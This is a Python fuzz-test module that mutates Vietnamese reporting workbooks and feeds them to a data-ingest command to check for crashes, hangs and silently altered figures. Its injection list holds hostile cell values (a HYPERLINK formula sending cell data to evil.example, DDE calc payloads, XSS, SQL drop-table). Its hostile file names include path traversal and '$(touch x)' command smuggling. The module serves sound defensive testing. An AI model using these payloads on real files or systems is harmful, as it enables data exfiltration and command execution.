"""Valid workbooks, mutated from a seed, put through the real `tiendoso ingest`: no crash, no hang, a receipt for each,
and never a figure that is silently another one than the sender's.

    python -m tests.fuzz --count 3000 --seed 20260314

Each fault is printed with what makes it again: `--seed S --only N`.
"""

from __future__ import annotations

import argparse
import io
import json
import math
import os
import random
import shutil
import subprocess
import sys
import tempfile
import time
import unicodedata
import zipfile
from collections import Counter, defaultdict
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field, replace
from datetime import date
from functools import cache
from hashlib import sha256
from pathlib import Path
from typing import Any

import openpyxl

from etl.archive import Archive
from etl.reference import Reference
from etl.settings import REPOSITORY, Settings
from etl.template import write_template
from tests import forms
from tests.forms import REFERENCE, Page, Written

SUBMISSIONS = REPOSITORY / "tests" / "pipeline" / "submissions"
RECEIVED_AT = "2026-11-20T09:00"
FILES_A_RUN = 200
SECONDS_A_FILE = 3

Place = tuple[int, int]
Pages = list[Page]
Record = dict[str, Any]


# --- what is mutated --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Original:
    """A valid workbook: its bytes and, of an .xlsx, its sheets as they can be written anew."""

    file_name: str
    data: bytes
    pages: tuple[Page, ...] = ()


@cache
def originals() -> tuple[Original, ...]:
    """The twelve submissions and, of every form, templates filled in for some units."""
    found = []
    for path in sorted(SUBMISSIONS.iterdir()):
        if path.suffix in {".xlsx", ".xls", ".ods"}:
            data = path.read_bytes()
            found.append(Original(path.name, data, _pages(data) if path.suffix == ".xlsx" else ()))
    for form, unit, period in (
        ("bm01_indicators", "16174", "2026-Q3"),
        ("bm01_indicators", "38.KHCN", "2026-09"),
        ("bm02_tasks", "38.KHCN", "2026-W40"),
        ("bm03_by_unit", "38.NNMT", "2026-Q3"),
        ("bm04_service_index", "38.TTPVHCC", "2026-09"),
    ):
        data = _filled_template(form, unit, period)
        found.append(Original(f"{form} {unit} {period}.xlsx", data, _pages(data)))
    return tuple(found)


def _filled_template(form: str, unit: str, period: str) -> bytes:
    target = io.BytesIO()
    rows = _figures(REFERENCE, form, unit, random.Random(form + unit + period))
    write_template(REFERENCE, form, unit, period, rows=rows, path_or_stream=target)
    return target.getvalue()


def _figures(reference: Reference, form: str, unit: str, dice: random.Random) -> dict[str, Any]:
    """Plausible figures; small ones among them, which spreadsheet programs take for days and months."""

    def of(code: str) -> dict[str, Any]:
        indicator = reference.indicators[code]
        if indicator.kind != "ratio":
            return {"numerator": round(dice.uniform(0, 100), 2) if indicator.kind == "score" else dice.randint(0, 4000)}
        total = dice.choice([dice.randint(1, 31), dice.randint(32, 2000), dice.randint(2000, 900_000)])
        return {"numerator": dice.randint(0, total), "denominator": total}

    if form == "bm01_indicators":
        return {
            code: of(code) | ({"note": "đã đối chiếu"} if dice.random() < 0.1 else {}) for code in reference.indicators
        }
    if form == "bm02_tasks":
        states = ["Chưa thực hiện", "Đang thực hiện", "Hoàn thành"]
        codes = [task.task for task in reference.tasks.values() if task.lead == unit] + ["PS-01", "PS-02"]
        return {
            code: {"state": dice.choice(states), "progress": dice.randint(0, 100)}
            | ({"title": f"Việc phát sinh {code}", "due": date(2026, 12, 31)} if code.startswith("PS") else {})
            for code in codes
        }
    expected = [code for rule in reference.forms[form].expected for code in rule.indicators]
    communes = [code for code, found in reference.org_units.items() if found.kind in ("xa", "phuong")]
    parts = {measure.key for measure in reference.forms[form].measures}
    return {
        commune: {
            (code, "value" if "value" in parts else part): value
            for code in expected
            for part, value in of(code).items()
        }
        for commune in communes
    }


def _pages(data: bytes) -> tuple[Page, ...]:
    formulas, values = (
        openpyxl.load_workbook(io.BytesIO(data)),
        openpyxl.load_workbook(io.BytesIO(data), data_only=True),
    )
    return tuple(_page(sheet, values[sheet.title]) for sheet in formulas.worksheets)


def _page(sheet: Any, values: Any) -> Page:
    page = Page(sheet.title, hidden=sheet.sheet_state != "visible")
    page.hidden_rows = {row for row, about in sheet.row_dimensions.items() if about.hidden}
    page.merges = [(area.min_row, area.min_col, area.max_row, area.max_col) for area in sheet.merged_cells.ranges]
    for row in sheet.iter_rows():
        for cell in row:
            value = values.cell(cell.row, cell.column).value
            if value is None and cell.data_type != "f":
                continue
            formula = str(cell.value) if cell.data_type == "f" else ""
            value = value if isinstance(value, str | bool | int | float | date) else str(value)
            page.cells[cell.row, cell.column] = Written(value, cell.number_format, cell.font.name or "", formula)
    return page


# --- mutations of cells -----------------------------------------------------------------------------------------


@dataclass
class Truth:
    """What a careful reader may make of a mutant.

    `is_known`: its figures are those of the original unless a finding says why not. `written`: numbers that the
    mutation itself wrote over others, `texts` words, which may then stand for them.
    """

    is_known: bool = True
    written: set[float] = field(default_factory=set)
    texts: set[str] = field(default_factory=set)
    is_secret: bool = False


CellMutation = Callable[[Pages, random.Random, Truth], None]

INJECTIONS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>alert(1)</script>",
    "'; drop table core.observation; --",
    "{shown} {expected!r} %s %n",
    "../../etc/passwd",
)
ODD_LETTERS = ("\u200b", "\u200d", "\ufeff", "\u00ad", "\u00a0", "\u2009", "\u202e", "\x01", "\x0b", "\x1f", "\ufffd")
HUGE = (1e308, 1e20, 9007199254740993.0, 1e-300, -5.0, -1e15, 0.1 + 0.2, 2147483648.0, 5e-324)
SHEET_NAMES = (
    "Sheet1", "Trang tính1", "x" * 31, "Biểu 01", "Biểu 02", "Biểu 03", "Tháng 3.2026", "Quý I-2025", "T13",
    "Phường Hạc Thành", "=1+1", "a'b", "Báo cáo (2)", " ", "Ghi chú kỳ", "Mẫu biểu số 02",
)  # fmt: skip
LONG = 40_000


def _sheet(pages: Pages, dice: random.Random) -> Page:
    return dice.choice([page for page in pages if page.cells])


def _copy(page: Page) -> Page:
    return replace(page, cells=dict(page.cells), merges=list(page.merges), hidden_rows=set(page.hidden_rows))


def _header(page: Page) -> int:
    """The row in which the table begins."""
    rows = [row for (row, _), cell in page.cells.items() if str(_value(cell)).strip().upper() in {"STT", "TT"}]
    return min(rows, default=1)


def _value(cell: Any) -> Any:
    return cell.value if isinstance(cell, Written) else cell


def _put(page: Page, place: Place, value: Any, number_format: str = "General") -> None:
    page.cells[place] = Written(value, number_format)


def _any_place(page: Page, dice: random.Random) -> Place:
    """A filled cell, of the table for the most part; sometimes an empty one."""
    header = _header(page)
    table = [place for place in page.cells if place[0] > header]
    if not table or dice.random() < 0.2:
        return dice.choice(list(page.cells))
    if dice.random() < 0.1:
        return dice.randint(1, page.last_row + 5), dice.randint(1, 15)
    return dice.choice(table)


def _numbers(page: Page) -> list[Place]:
    """The cells of the table that hold a number, running numbers left out."""
    header = _header(page)
    return [
        (row, column)
        for (row, column), cell in page.cells.items()
        if row > header + 2 and column > 2 and type(_value(cell)) in (int, float)
    ]


def _moved(page: Page, move: Callable[[int], int]) -> None:
    """Rows to other places; merges go with them."""
    page.cells = {(move(row), column): cell for (row, column), cell in page.cells.items()}
    page.hidden_rows = {move(row) for row in page.hidden_rows}
    page.merges = [(move(top), left, move(bottom), right) for top, left, bottom, right in page.merges]


def blank_rows(pages: Pages, dice: random.Random, truth: Truth) -> None:
    page = _sheet(pages, dice)
    for _ in range(dice.randint(1, 4)):
        at, count = dice.randint(1, page.last_row), dice.choice([1, 1, 2, 3, 10, 24, 30, 80])
        _moved(page, lambda row, at=at, count=count: row + count if row >= at else row)  # type: ignore[misc]


def rows_swapped(pages: Pages, dice: random.Random, truth: Truth) -> None:
    """Two rows of the table that no vertical merge touches."""
    page = _sheet(pages, dice)
    tied = {row for top, _, bottom, _ in page.merges if bottom > top for row in range(top, bottom + 1)}
    rows = sorted({row for row, column in _numbers(page)} - tied)
    if len(rows) > 1:
        one, other = dice.sample(rows, 2)
        _moved(page, lambda row: {one: other, other: one}.get(row, row))


def row_twice(pages: Pages, dice: random.Random, truth: Truth) -> None:
    page = _sheet(pages, dice)
    rows = sorted({row for row, _ in _numbers(page)})
    if rows:
        row, at = dice.choice(rows), page.last_row + 1 if dice.random() < 0.3 else dice.choice(rows) + 1
        copied = {column: cell for (other, column), cell in page.cells.items() if other == row}
        _moved(page, lambda other: other + 1 if other >= at else other)
        page.cells |= {(at, column): cell for column, cell in copied.items()}


def columns_shuffled(pages: Pages, dice: random.Random, truth: Truth) -> None:
    """The columns of a table in another order, head and cells together."""
    page = _sheet(pages, dice)
    header = _header(page)
    if any(bottom >= header and right > left for _, left, bottom, right in page.merges):
        return
    columns = sorted({column for row, column in page.cells if row == header})
    new = dict(zip(columns, dice.sample(columns, len(columns)), strict=True))
    page.cells = {
        (row, new.get(column, column) if row >= header else column): cell for (row, column), cell in page.cells.items()
    }
    page.merges = [
        (top, new.get(left, left), bottom, new.get(left, left)) if bottom >= header else (top, left, bottom, right)
        for top, left, bottom, right in page.merges
    ]


def headers_shuffled(pages: Pages, dice: random.Random, truth: Truth) -> None:
    """Headers over other columns than theirs: the figures are then what the sender says."""
    page = _sheet(pages, dice)
    header = _header(page)
    columns = sorted(column for row, column in page.cells if row == header)
    cells = [page.cells[header, column] for column in columns]
    for column, cell in zip(columns, dice.sample(cells, len(cells)), strict=True):
        page.cells[header, column] = cell
    truth.is_known = False


def header_lost(pages: Pages, dice: random.Random, truth: Truth) -> None:
    page = _sheet(pages, dice)
    header = _header(page)
    places = [place for place in page.cells if place[0] == header]
    for place in dice.sample(places, min(len(places), dice.randint(1, 3))):
        del page.cells[place]


def cells_merged(pages: Pages, dice: random.Random, truth: Truth) -> None:
    """A merged area over some cells; those under it are gone, as spreadsheet programs do it."""
    page = _sheet(pages, dice)
    top, left = _any_place(page, dice)
    bottom, right = top + dice.randint(0, 3), left + dice.randint(0, 3)
    for row in range(top, bottom + 1):
        for column in range(left, right + 1):
            if (row, column) != (top, left) and page.cells.pop((row, column), None) is not None:
                truth.is_known = False
    page.merges.append((top, left, bottom, right))


def injected(pages: Pages, dice: random.Random, truth: Truth) -> None:
    for _ in range(dice.randint(1, 5)):
        page = _sheet(pages, dice)
        text = dice.choice(INJECTIONS)
        _put(page, _any_place(page, dice), text)
        truth.texts.add(text.strip())


def long_text(pages: Pages, dice: random.Random, truth: Truth) -> None:
    page = _sheet(pages, dice)
    text = "Rất dài " * (LONG // 8)
    _put(page, _any_place(page, dice), text)
    truth.texts.add(text.strip())


def odd_letters(pages: Pages, dice: random.Random, truth: Truth) -> None:
    page, letter = _sheet(pages, dice), dice.choice(ODD_LETTERS)
    for place, cell in page.cells.items():
        text = _value(cell)
        if isinstance(text, str) and text and dice.random() < 0.3:
            at = dice.randint(0, len(text))
            page.cells[place] = Written(text[:at] + letter + text[at:], font=cell.font)


def decomposed(pages: Pages, dice: random.Random, truth: Truth) -> None:
    """NFD, as macOS writes it; all or some of the texts."""
    share = dice.choice([0.3, 1.0])
    for page in pages:
        for place, cell in page.cells.items():
            if isinstance(_value(cell), str) and not cell.font.startswith((".Vn", "VNI-")) and dice.random() < share:
                page.cells[place] = replace(cell, value=unicodedata.normalize("NFD", cell.value))


def spaced(pages: Pages, dice: random.Random, truth: Truth) -> None:
    for page in pages:
        for place, cell in page.cells.items():
            if isinstance(_value(cell), str) and dice.random() < 0.5:
                before, after = dice.choice(["", " ", "\u00a0", "\n"]), dice.choice(["", "  ", "\u00a0", "\n"])
                page.cells[place] = replace(cell, value=before + cell.value + after)


def numbers_as_text(pages: Pages, dice: random.Random, truth: Truth) -> None:
    """Numbers typed into cells formatted as text, as they are written here: 1.234.567 and 12,5."""
    page = _sheet(pages, dice)
    for place in _numbers(page):
        cell = page.cells[place]
        if cell.formula or "%" in cell.number_format or dice.random() < 0.3:
            continue
        value = cell.value
        if isinstance(value, float) and not value.is_integer():
            page.cells[place] = Written(f"{value:.10g}".replace(".", ",")) if abs(value) < 1e9 else cell
        else:
            page.cells[place] = Written(f"{int(value):,}".replace(",", dice.choice([".", " ", "\u00a0", ""])))


def huge_numbers(pages: Pages, dice: random.Random, truth: Truth) -> None:
    page = _sheet(pages, dice)
    numbers = _numbers(page)
    for place in dice.sample(numbers, min(len(numbers), dice.randint(1, 3))):
        value = dice.choice(HUGE)
        _put(page, place, value, page.cells[place].number_format)
        truth.written.add(value)


def dates_in_odd_places(pages: Pages, dice: random.Random, truth: Truth) -> None:
    page = _sheet(pages, dice)
    for _ in range(dice.randint(1, 3)):
        place = dice.choice(_numbers(page) or [(1, 1)]) if dice.random() < 0.6 else _any_place(page, dice)
        day = date(dice.randint(1900, 2099), dice.randint(1, 12), dice.randint(1, 28))
        _put(page, place, day, dice.choice(["dd/mm/yyyy", "d-mmm", "mm-yy", "mmm-yy", "General"]))


def errors_and_flags(pages: Pages, dice: random.Random, truth: Truth) -> None:
    page = _sheet(pages, dice)
    numbers = _numbers(page)
    for place in dice.sample(numbers, min(len(numbers), dice.randint(1, 2))):
        page.cells[place] = dice.choice(
            [Written("#REF!"), Written(True), Written("#N/A"), Written("n/a?"), Written(None, formula="=1/7")]
        )


def sheets_renamed(pages: Pages, dice: random.Random, truth: Truth) -> None:
    names = dice.sample(SHEET_NAMES, len(SHEET_NAMES))
    for page in pages:
        page.name = names.pop()
    if dice.random() < 0.3:
        pages.reverse()


def sheet_added(pages: Pages, dice: random.Random, truth: Truth) -> None:
    """A copy of a sheet, hidden or a guide; or a sheet of something else."""
    kind = dice.choice(["hidden", "guide", "other", "twin"])
    page = Page("Dữ liệu") if kind == "other" else _copy(_sheet(pages, dice))
    page.name, page.hidden = (
        {"hidden": "Bản sao", "guide": "Hướng dẫn", "twin": "Biểu (2)"}.get(kind, "Khác"),
        kind == "hidden",
    )
    for number in range(20 if kind == "other" else 0):
        page.put(f"A{number + 1}", f"Mục {number}", dice.randint(0, 100))
    pages.insert(dice.randint(0, len(pages)), page)


def many_columns(pages: Pages, dice: random.Random, truth: Truth) -> None:
    page = _sheet(pages, dice)
    header, count = _header(page), dice.choice([60, 200, 300])
    for column in range(14, 14 + count):
        at = max(column for row, column in page.cells if row == header) + 1
        page.cells[header, at] = f"Cột thêm {column}"
        page.cells[header + 2, at] = column


def far_cell(pages: Pages, dice: random.Random, truth: Truth) -> None:
    page = _sheet(pages, dice)
    row, column = dice.choice([(1_048_576, 1), (1, 16_384), (99_999, 3), (500, 200), (1_048_576, 16_384), (400, 2)])
    page.cells[row, column] = dice.choice(["x", 7, " "])


def rows_hidden(pages: Pages, dice: random.Random, truth: Truth) -> None:
    page = _sheet(pages, dice)
    page.hidden_rows |= set(dice.sample(range(1, page.last_row + 1), min(3, page.last_row)))


def secrecy_mark(pages: Pages, dice: random.Random, truth: Truth) -> None:
    page = _sheet(pages, dice)
    page.cells[page.last_row + dice.randint(2, 4), dice.randint(1, 6)] = dice.choice(["MẬT", "TỐI MẬT", "Tuyệt mật"])
    truth.is_secret = page.cells[max(page.cells)] != "Tuyệt mật"


def written_anew(pages: Pages, dice: random.Random, truth: Truth) -> None:
    """Nothing but another program's way of writing the same."""


CELL_MUTATIONS: tuple[CellMutation, ...] = (
    blank_rows, rows_swapped, row_twice, columns_shuffled, headers_shuffled, header_lost, cells_merged, injected,
    long_text, odd_letters, decomposed, spaced, numbers_as_text, huge_numbers, dates_in_odd_places, errors_and_flags,
    sheets_renamed, sheet_added, many_columns, far_cell, rows_hidden, written_anew,
)  # fmt: skip


# --- mutations of bytes -----------------------------------------------------------------------------------------

ByteMutation = Callable[[bytes, random.Random, Truth], bytes]


def _parts(data: bytes) -> list[tuple[str, bytes]]:
    if not data.startswith(b"PK"):
        return []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return [(name, package.read(name)) for name in package.namelist()]


def _zipped(parts: Sequence[tuple[str, bytes]]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts:
            package.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content)
    return target.getvalue()


def _flipped(data: bytes, dice: random.Random, most: int = 20) -> bytes:
    changed = bytearray(data)
    for _ in range(dice.randint(1, most)):
        changed[dice.randrange(len(changed))] ^= 1 << dice.randrange(8)
    return bytes(changed)


def bytes_flipped(data: bytes, dice: random.Random, truth: Truth) -> bytes:
    # a zip bears checksums, other files do not: there another digit is another figure
    truth.is_known = truth.is_known and data.startswith(b"PK")
    return _flipped(data, dice)


def bytes_flipped_in_a_part(data: bytes, dice: random.Random, truth: Truth) -> bytes:
    """Damage under a checksum that is right: what stands there then is what was sent."""
    truth.is_known = False
    parts = _parts(data)
    filled = [number for number, (_, content) in enumerate(parts) if content]
    if not filled:
        return _flipped(data, dice)
    number = dice.choice(filled)
    parts[number] = parts[number][0], _flipped(parts[number][1], dice, 3)
    return _zipped(parts)


def truncated(data: bytes, dice: random.Random, truth: Truth) -> bytes:
    truth.is_known = truth.is_known and data.startswith((b"PK", b"\xd0\xcf"))
    return data[: dice.choice([dice.randrange(len(data)), len(data) - 1, len(data) - 22, 512])]


def tail_added(data: bytes, dice: random.Random, truth: Truth) -> bytes:
    return data + dice.choice([b"\0" * 700, b"\r\n", dice.randbytes(100), data[:400]])


def member_dropped(data: bytes, dice: random.Random, truth: Truth) -> bytes:
    parts = _parts(data)
    if not parts:
        return truncated(data, dice, truth)
    del parts[dice.randrange(len(parts))]
    return _zipped(parts)


def member_twice(data: bytes, dice: random.Random, truth: Truth) -> bytes:
    parts = _parts(data)
    if not parts:
        return data
    name, content = dice.choice(parts)
    return _zipped([*parts, (dice.choice([name.upper(), name.swapcase(), f"./{name}", f"x/../{name}"]), content)])


def members_swapped(data: bytes, dice: random.Random, truth: Truth) -> bytes:
    parts = _parts(data)
    if len(parts) < 2:
        return data
    one, other = dice.sample(range(len(parts)), 2)
    parts[one], parts[other] = (parts[one][0], parts[other][1]), (parts[other][0], parts[one][1])
    return _zipped(parts)


def member_emptied(data: bytes, dice: random.Random, truth: Truth) -> bytes:
    parts = _parts(data)
    if not parts:
        return b""
    number = dice.randrange(len(parts))
    name, content = parts[number]
    parts[number] = name, dice.choice([b"", content[: len(content) // 2], b"<a/>", content.replace(b">", b"> ", 1)])
    return _zipped(parts)


BYTE_MUTATIONS: tuple[ByteMutation, ...] = (
    bytes_flipped, bytes_flipped_in_a_part, truncated, tail_added, member_dropped, member_twice, members_swapped,
    member_emptied,
)  # fmt: skip


# --- names ------------------------------------------------------------------------------------------------------


def _hostile_name(name: str, dice: random.Random) -> bytes:
    """A name around the honest one, as hostile as a file system takes it; no name is hidden or a lock's."""
    stem, _, suffix = name.rpartition(".")
    other = dice.choice(["xlsx", "xls", "ods", "csv", "xlsm", "xlsb", "html", "pdf", "XLSX", "", "xlsx.exe"])
    text = dice.choice(
        [
            f"{stem}.{other}",
            f"..\\..\\{name}",
            f"..%2f..%2f{name}",
            f"{stem}\n{{dòng hai}}.{suffix}",
            f"{stem}\r\x1b[31m\x07.{suffix}",
            f"\"{stem}'`$(touch x)`;&|<>*?.{suffix}",
            f"{'a' * 150} {stem}"[:180] + f".{suffix}",
            f"=cmd|' C calc'!A0 {name}",
            f"-{name}",
            f" {name} ",
            f"%s%n{{}}{name}",
            f"\u202e{name}\u200b",
            f"{stem}\x00.{suffix}".replace("\x00", "\x01"),
        ]
    )
    encoded = unicodedata.normalize(dice.choice(["NFC", "NFD"]), text).replace("/", "_").encode()[:250]
    return encoded + b"\xff\xfe" if dice.random() < 0.1 else encoded


# --- mutants ----------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Mutant:
    """The n-th mutant of a seed: what was done to which original, and what may come of it."""

    number: int
    original: str
    done: tuple[str, ...]
    file_name: bytes
    data: bytes
    truth: Truth


def mutants(seed: int, count: int, only: int | None = None) -> Iterator[Mutant]:
    """Each depends on the seed and its own number alone."""
    for number in range(count) if only is None else [only]:
        yield _mutant(seed, number)


def _mutant(seed: int, number: int) -> Mutant:
    dice = random.Random(f"{seed}:{number}")
    original = dice.choice(originals())
    data, done, truth = original.data, [], Truth()
    file_name = original.file_name.encode()
    is_rewritten = bool(original.pages) and dice.random() < 0.7
    if is_rewritten:
        pages = [_copy(page) for page in original.pages]
        for mutate in dice.sample(CELL_MUTATIONS, dice.choice([1, 1, 1, 2, 3])):
            mutate(pages, dice, truth)
            done.append(mutate.__name__)
            for page in pages:
                page.cells = {
                    at: cell if isinstance(cell, Written) else Written(cell) for at, cell in page.cells.items()
                }
        if dice.random() < 0.03:
            secrecy_mark(pages, dice, truth)
            done.append("secrecy_mark")
        kind = dice.choices(["xlsx", "xls", "ods", "csv", "html"], [14, 2, 2, 1, 1])[0]
        data, kind = _written(pages, kind, truth)
        done.append(kind)
    if not is_rewritten or dice.random() < 0.1:
        mutate_bytes = dice.choice(BYTE_MUTATIONS)
        data = mutate_bytes(data, dice, truth)
        done.append(mutate_bytes.__name__)
    if dice.random() < 0.35:
        file_name = _hostile_name(original.file_name, dice)
        done.append("named anew")
    return Mutant(number, original.file_name, tuple(done), file_name, data, truth)


def _written(pages: Pages, kind: str, truth: Truth) -> tuple[bytes, str]:
    """The pages in a kind of file; .xlsx where the kind cannot hold them."""
    names: set[str] = set()
    for page in pages:
        page.name = page.name if page.name.casefold() not in names else f"{page.name[:25]} {len(names)}"
        names.add(page.name.casefold())
        page.merges = list(_apart(page.merges))
        is_far = page.last_row > 3000 or max(column for _, column in page.cells) > 200
        kind = "xlsx" if is_far else kind
    if kind in {"csv", "html"}:
        pages[:] = [page for page in pages if not page.hidden][:1]
        # one sheet, no number formats, no fonts: the figures are those that can still be told
        truth.is_known = False
        page = pages[0]
        return (forms.csv_file(page), kind) if kind == "csv" else (forms.html(page), kind)
    if kind != "xlsx":
        try:
            if kind == "xls":
                return forms.xls(*(_plain(page, 30_000) for page in pages)), kind
            truth.is_known = False  # this writer keeps no formats: a month stored as a day is a day there
            return forms.ods(*(_plain(page, 30_000) for page in pages)), kind
        except Exception:  # its writer has limits of its own; the mutant is then an .xlsx
            pass
    long = {text for page in pages for cell in page.cells.values() if len(text := str(_value(cell))) > 32_000}
    marked = {text: f"LONG-{number}-LONG" for number, text in enumerate(sorted(long))}
    for page in pages:
        for place, cell in page.cells.items():
            if (text := _value(cell)) in marked:
                page.cells[place] = marked[text]
    data = forms.xlsx(*pages)
    if marked:
        parts = dict(_parts(data))
        for text, mark in marked.items():
            parts["xl/sharedStrings.xml"] = parts["xl/sharedStrings.xml"].replace(mark.encode(), text.encode())
        data = _zipped(list(parts.items()))
    return data, "xlsx"


def _apart(merges: Sequence[tuple[int, int, int, int]]) -> Iterator[tuple[int, int, int, int]]:
    """Merged areas of more than one cell that do not overlap."""
    taken: set[Place] = set()
    for top, left, bottom, right in reversed(merges):
        cells = {(row, column) for row in range(top, bottom + 1) for column in range(left, right + 1)}
        if len(cells) > 1 and not cells & taken:
            taken |= cells
            yield top, left, bottom, right


def _plain(page: Page, longest: int) -> Page:
    """The page without formulas (their results stay) and with texts that old formats can hold."""
    cells = {}
    for place, cell in page.cells.items():
        written = cell if isinstance(cell, Written) else Written(cell)
        value = "n/a?" if written.value is None and written.formula else written.value
        if isinstance(value, str):
            value = "".join(letter for letter in value[:longest] if letter in "\t\n" or letter >= " ")
        cells[place] = replace(written, value=value, formula="")
    return replace(page, cells={place: cell for place, cell in cells.items() if cell.value is not None})


# --- what became of them ----------------------------------------------------------------------------------------

Rows = dict[tuple[str, ...], Record]
LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
OF_THE_SENDER = ("org_unit.", "period.", "sheet.", "form.", "title.")
OF_THE_TABLE = (*OF_THE_SENDER, "header.", "file.", "as_of.", "cell.percent_scale", "rule.not_all_indicators")
OBSERVED = ("numerator", "denominator", "value", "value_to", "qualifier", "status")
TRACKED = ("status", "due_on", "due_precision", "completed_on", "progress_pct", "lead")
TELLING = frozenset({"sheet.hidden", "sheet.left_out", "row.example", "header.added", "cell.bounded_value"})


def rows_of(record: Record) -> Rows:
    """The figures and tasks of one accepted submission; a blank row says no more than none."""
    rows: Rows = {}
    for row in record["observations"] or []:
        if row["status"] != "not_reported" or row["denominator"] is not None:
            rows[row["org_unit"], row["indicator"]] = row
    for row in record["tasks"] or []:
        rows["task", row["task"] or row["title"]] = row
    return rows


def said(row: Record | None) -> tuple[Any, ...]:
    """What a row says, wherever it stands."""
    if row is None:
        return ()
    values = (row[name] for name in (OBSERVED if "indicator" in row else TRACKED))
    return tuple(float(f"{value:.9g}") if isinstance(value, float) else value for value in values)


@dataclass(frozen=True)
class Answer:
    """All that was said about one file: its records of the archive."""

    records: tuple[Record, ...]

    @property
    def accepted(self) -> dict[tuple[str, str, str], Record]:
        return {
            (record["form"], record["org_unit"], record["period"]): record
            for record in self.records
            if record["outcome"] == "accepted"
        }

    @property
    def findings(self) -> list[Record]:
        """What may explain a difference."""
        return [
            finding
            for record in self.records
            for finding in record["findings"] or []
            if finding["severity"] != "info" or finding["code"] in TELLING
        ]


@dataclass(frozen=True)
class Explanation:
    """What the answer to a mutant says that the answer to its original does not."""

    codes: frozenset[str]
    rows: frozenset[tuple[str, str]]

    @classmethod
    def of(cls, answer: Answer, honest: Answer) -> Explanation:
        counts = Counter(finding["code"] for finding in answer.findings)
        new = frozenset(counts - Counter(finding["code"] for finding in honest.findings))
        rows = {
            (finding["sheet"], finding["cell"].lstrip(LETTERS)) for finding in answer.findings if finding["code"] in new
        }
        return cls(new, frozenset(rows))

    def speaks_of(self, *families: str) -> bool:
        return any(code.startswith(families) for code in self.codes)

    def covers(self, row: Record | None) -> bool:
        """A figure by a word about its row or its whole table; a lost one by any word."""
        if row is None:
            return bool(self.codes)
        return self.speaks_of(*OF_THE_TABLE) or (row["sheet"], row["cell"].lstrip(LETTERS)) in self.rows


def ingest(live: Path, folder: Path, count: int, *options: str) -> tuple[list[Record], str]:
    """One run of the real command: the receipts it printed, and what is wrong with the run itself."""
    environment = os.environ | {"TIENDOSO_LIVE": str(live), "TIENDOSO_PARSER_PROCESSES": "2"}
    command = [sys.executable, "-m", "etl.cli", "ingest", str(folder), "--json", "--received-at", RECEIVED_AT, *options]
    try:
        done = subprocess.run(
            command,
            cwd=REPOSITORY,
            env=environment,
            capture_output=True,
            timeout=60 + SECONDS_A_FILE * count,
            check=False,
        )
    except subprocess.TimeoutExpired:
        return [], "it hangs"
    faults = done.stderr.decode("utf-8", "replace")
    if done.returncode not in (0, 1) or "Traceback" in faults:
        return [], f"exit {done.returncode}\n{faults[-4000:]}"
    return [json.loads(line) for line in done.stdout.decode("utf-8").splitlines()], ""


def answers(live: Path) -> dict[str, Answer]:
    """What the archive holds, by the hash of the file; of a file sent twice its first answer."""
    found: dict[str, list[Record]] = defaultdict(list)
    for record in Archive(Settings(live=live).archive).receipts():
        found[record["file"]].append(record)
    return {file: Answer(tuple(records)) for file, records in found.items()}


def faults_of(mutant: Mutant, answer: Answer, honest: Answer) -> Iterator[str]:
    """What is wrong about the answer to a mutant, given the answer to its original."""
    if mutant.truth.is_secret and answer.accepted:
        yield "a file that bears a secrecy mark was accepted"
    if not mutant.truth.is_known:
        return
    words = Explanation.of(answer, honest)
    for key, record in answer.accepted.items():
        if key in honest.accepted:
            yield from _faults_of_table(mutant, record, honest.accepted[key], words)
        elif not words.speaks_of(*OF_THE_SENDER):
            yield f"taken for {key} without a word, instead of {sorted(honest.accepted)}"
    lost = honest.accepted.keys() - answer.accepted.keys()
    if answer.accepted and lost and not words.codes and len(answer.accepted) == len(answer.records):
        yield f"{sorted(lost)} vanished without a word"


def _faults_of_table(mutant: Mutant, record: Record, honest: Record, words: Explanation) -> Iterator[str]:
    if record["as_of"] != honest["as_of"] and not words.speaks_of("as_of.", "period.", "sheet."):
        yield f"as of {record['as_of']} instead of {honest['as_of']}"
    got, wanted = rows_of(record), rows_of(honest)
    # a task's code is the sender's own word; another word there makes another task of it
    if renamed := [row for row in got if row[0] == "task" and row[1] in mutant.truth.texts]:
        got = {row: values for row, values in got.items() if row not in renamed}
        missing = [row for row in sorted(wanted) if row not in got]
        wanted = {row: values for row, values in wanted.items() if row not in missing[: len(renamed)]}
    for row in sorted(wanted.keys() | got.keys()):
        mine, theirs = said(got.get(row)), said(wanted.get(row))
        if mine == theirs or _is_as_written(mine, mutant.truth.written) or words.covers(got.get(row)):
            continue
        yield f"{record['form']} {row}: {mine} instead of {theirs}, without a word"


def _is_as_written(row: tuple[Any, ...], written: set[float]) -> bool:
    numbers = [number for number in row if isinstance(number, int | float)]
    return any(math.isclose(number, mine, rel_tol=1e-6) for number in numbers for mine in written)


@dataclass
class Report:
    """A run over many mutants."""

    count: int = 0
    outcomes: Counter[str] = field(default_factory=Counter)
    codes: Counter[str] = field(default_factory=Counter)
    faults: list[str] = field(default_factory=list)


def fuzz(seed: int, count: int, folder: Path, only: int | None = None) -> Report:
    """Puts the mutants of a seed through `ingest`, in runs of `FILES_A_RUN`, and judges every answer."""
    report = Report()
    honest = _honest(folder / "honest")
    waiting = list(mutants(seed, count, only))
    for first in range(0, len(waiting), FILES_A_RUN):
        _run(waiting[first : first + FILES_A_RUN], folder / f"run {first}", honest, seed, report)
    return report


def _honest(folder: Path) -> dict[str, Answer]:
    """The answers to the originals, by file name; they must all be accepted."""
    for number, original in enumerate(originals()):
        (folder / "in" / str(number)).mkdir(parents=True)
        (folder / "in" / str(number) / original.file_name).write_bytes(original.data)
    _, fault = ingest(folder / "live", folder / "in", len(originals()), "--no-build")
    assert not fault, fault
    found = {answer.records[0]["file_name"]: answer for answer in answers(folder / "live").values()}
    refused = [name for name, answer in found.items() if len(answer.accepted) < len(answer.records)]
    assert not refused, refused
    assert found.keys() == {original.file_name for original in originals()}
    return found


